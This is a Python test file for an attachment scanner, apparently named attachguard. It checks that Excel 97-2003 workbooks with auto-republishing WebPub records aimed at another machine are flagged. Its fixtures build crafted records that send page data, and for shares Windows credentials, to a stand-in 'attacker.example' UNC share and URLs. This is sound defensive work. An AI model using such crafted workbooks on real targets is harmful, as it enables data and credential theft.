"""An Excel 97-2003 workbook published as a web page (red team 106): a WebPub record (MS-XLS
2.4.344), in the globals or in a sheet, with fAutoRepublish has Excel write the page to its
destination (stFileDest) again whenever the workbook is saved. To a share or a URL that sends
the reader's data (and, to a share, Windows credentials) to another machine: EXTERNAL_LINK, as a
.xlsx's ``webPublishItem`` with ``autoRepublish``. A page on the author's own disk or beside
the workbook, or one published once, passes."""

from __future__ import annotations

import struct

import pytest

from attachguard.formats import biffsheets
from attachguard.formats.biffsheets import CellLink
from attachguard.policy import Policy
from support.evasions import ole_tree
from test_office_xls_sheets import EXCEL_CLSID, found, record, scan, workbook, xls

SHARE = "\\\\attacker.example\\pub\\orders.htm"
MESSAGE = (
    "web page Excel writes to another machine whenever the workbook is saved in the Excel workbook"
)
AUTO_REPUBLISH, MHTML, UNUSED = 0x0002, 0x0008, 0x0001


def webpub_string(text: str, wide: bool = False, pad: bool = True) -> bytes:
    """A WebPubString: its character count, an XLUnicodeStringNoCch, and the pad byte after an
    odd-sized string (``pad``)."""
    raw = text.encode("utf-16-le" if wide else "latin-1")
    tail = b"\0" if pad and (1 + len(raw)) % 2 else b""
    return struct.pack("<HB", len(text), int(wide)) + raw + tail


def webpub(
    destination: str,
    flags: int = AUTO_REPUBLISH,
    source: int = 1,
    name: str | None = None,
    wide: bool = False,
    pad: bool = True,
) -> bytes:
    """A WebPub record publishing ``source`` (tws: 1 a sheet, 5 a chart named ``name``) to
    ``destination``."""
    strings = webpub_string(name, pad=pad) if name is not None else b""
    strings += webpub_string(destination, wide, pad)
    strings += webpub_string("Book1_12345", pad=pad) + webpub_string("Orders", pad=pad)
    tail = strings + (struct.pack("<I", 2) if source == 5 else b"") + b"\0\0"
    head = struct.pack("<HH8sBBHHHII", 0x0801, 0, bytes(8), source, 0, flags, 0, 0, 7, len(tail))
    return record(0x0801, head + tail)


def in_globals(*records: bytes) -> bytes:
    """A workbook whose globals hold ``records`` after the BOF (the sheet offset kept right)."""
    stream = workbook()
    extra = b"".join(records)
    (offset,) = struct.unpack_from("<I", stream, 4 + 16 + 4)
    bof_end = 4 + 16
    boundsheet = stream[bof_end : bof_end + 4 + 14]
    patched = boundsheet[:4] + struct.pack("<I", offset + len(extra)) + boundsheet[8:]
    return stream[:bof_end] + extra + patched + stream[bof_end + len(boundsheet) :]


@pytest.mark.parametrize(
    "data",
    [
        xls(in_globals(webpub(SHARE))),
        xls(workbook(webpub(SHARE))),
        xls(workbook(webpub("http://attacker.example/pub/orders.htm"))),
        xls(workbook(webpub("file://attacker.example/pub/orders.htm", AUTO_REPUBLISH | MHTML))),
        xls(workbook(webpub(SHARE, wide=True))),
        # a chart: its name first; read with and without the pad byte after it
        xls(workbook(webpub(SHARE, source=5, name="Chart 1"))),
        xls(workbook(webpub(SHARE, source=5, name="Chart 12", pad=False))),
        # Excel 5.0/95's stream too
        ole_tree({"Book": in_globals(webpub(SHARE)), "Workbook": workbook()}, EXCEL_CLSID),
    ],
)
def test_a_page_republished_to_another_machine(data: bytes, policy: Policy) -> None:
    assert [(code.name, message) for code, message in found(data, policy)] == [
        ("EXTERNAL_LINK", MESSAGE)
    ]


@pytest.mark.parametrize(
    "cell",
    [
        webpub(SHARE, flags=0),  # published once, by hand
        webpub(SHARE, flags=MHTML | UNUSED),
        webpub("C:\\Users\\me\\Documents\\orders.htm"),
        webpub("orders.htm"),
        webpub("", flags=AUTO_REPUBLISH),
        record(0x0801, b"\x01\x08" + bytes(10)),  # cut short
    ],
)
def test_a_page_written_here_or_once_passes(cell: bytes, policy: Policy) -> None:
    assert found(xls(workbook(cell)), policy) == []
    assert found(xls(in_globals(cell)), policy) == []


def test_the_label_names_web_publishing(policy: Policy) -> None:
    (finding,) = scan(xls(workbook(webpub(SHARE))), policy).findings
    assert (finding.code.name, finding.label) == ("EXTERNAL_LINK", "web publishing")


def test_the_destination_is_read_as_the_specification_lays_it_out() -> None:
    data = webpub(SHARE, source=5, name="Chart 1")[4:]
    assert biffsheets.republished_to(data)[:2] == ["Chart 1", SHARE]
    assert biffsheets.web_published(data) == {CellLink.WEB_PUBLISHED}
    assert biffsheets.republished_to(webpub(SHARE, flags=0)[4:]) == []
